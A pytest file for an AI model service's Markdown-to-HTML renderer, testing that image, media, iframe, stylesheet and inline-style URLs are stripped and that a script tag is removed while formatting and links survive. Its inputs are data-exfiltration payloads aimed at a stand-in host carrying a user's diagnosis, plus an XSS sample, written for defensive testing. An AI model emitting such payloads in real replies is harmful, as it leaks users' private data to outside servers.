"""The model's Markdown is shown as HTML: formatting stays, anything that loads from elsewhere goes."""

import pytest

from assistant.services import render_markdown


@pytest.mark.parametrize("markdown", [
    "![chart](https://collector.example/c?q=my+diagnosis)",
    '<img src="https://collector.example/c?q=my+diagnosis">',
    '<audio src="https://collector.example/a"></audio><video poster="https://collector.example/p"></video>',
    '<iframe src="https://collector.example/f"></iframe><object data="https://collector.example/o"></object>',
    '<p style="background: url(https://collector.example/s)">hi</p>',
    '<link rel="stylesheet" href="https://collector.example/l.css">',
])
def test_nothing_in_a_reply_loads_from_another_server(markdown):
    html = render_markdown(markdown)
    assert "collector.example" not in html.replace('href="https://collector.example', "")
    for tag in ("<img", "<audio", "<video", "<iframe", "<object", "<link", "style="):
        assert tag not in html


def test_formatting_lists_code_tables_and_links_survive():
    html = render_markdown("**Rest** and *drink*.\n\n1. one\n2. two\n\n```python\nx = 1\n```\n\n"
                           "[NHS](https://www.nhs.uk/) <script>alert(1)</script>")
    for kept in ("<strong>Rest</strong>", "<em>drink</em>", "<ol>", "<li>one</li>", "<pre><code>x = 1",
                 'href="https://www.nhs.uk/"'):
        assert kept in html
    assert "<script" not in html and "alert(1)" not in html
